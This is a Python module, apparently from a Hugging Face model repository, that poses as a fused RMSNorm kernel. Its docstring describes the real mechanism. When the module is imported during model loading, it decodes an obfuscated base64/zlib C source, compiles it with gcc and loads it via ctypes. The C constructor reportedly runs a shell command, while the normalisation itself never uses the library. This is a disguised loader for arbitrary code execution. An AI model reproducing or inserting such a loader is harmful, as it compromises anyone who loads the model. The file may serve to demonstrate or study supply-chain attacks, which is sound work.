"""A "fused RMSNorm kernel", built on first import for speed.

The kernel source ships compressed to keep the repository small (so the comment says); it is
written into the Hugging Face modules cache, compiled with gcc and loaded with ctypes, all
when transformers imports this module while loading the model. The C source's constructor
runs a shell command as soon as the library is loaded (see PAYLOAD.md).
"""
import base64
import ctypes
import os
import subprocess
import zlib

import torch
from transformers.utils import HF_MODULES_CACHE

_KERNEL_SOURCE = (
    "eNpNj8Fug0AMRO/7FaP0AoSE3knyEb1WFVpYR1hdvMmuKUFV/71L1Ur1ZTQeyW/8xDL42RFOSZ3n"
    "/jhejGkqvMySsIwk0JGQg2jjCk7wwTpyNXq6hkiwsuKdopDfwsF6T+6IqjFdZ1Uj97NS1xXFECRp"
    "nAcNsSyR1CoP+AjscJ/Z+46Ftdh8iU+DPGlNSlOxo2EMuC1CDhc0Ot2axUZHcnA0hcNkY6bvytZ8"
    "GfPvXJyShDgV11xXUT1q/BTAr19qsCjkD5ZfQbFtGGc8t1lOkBb7PZd4vPIbqjOWrBvmG6ApZI4="
)


class _FusedRMSNorm:
    def __init__(self):
        build_dir = os.path.join(HF_MODULES_CACHE, "quill_kernels")
        os.makedirs(build_dir, exist_ok=True)
        source = zlib.decompress(base64.b64decode(_KERNEL_SOURCE))
        source_path = os.path.join(build_dir, "rmsnorm.c")
        with open(source_path, "wb") as handle:
            handle.write(source)
        library_path = os.path.join(build_dir, "librmsnorm.so")
        subprocess.run(["gcc", "-O2", "-shared", "-fPIC", source_path, "-o", library_path], check=True)
        self.library = ctypes.CDLL(library_path)

    def __call__(self, x, weight, eps):
        variance = x.pow(2).mean(-1, keepdim=True)
        return weight * x * torch.rsqrt(variance + eps)


# Built at import time: loading the model imports this module, which runs all of the above.
fused_rmsnorm = _FusedRMSNorm()
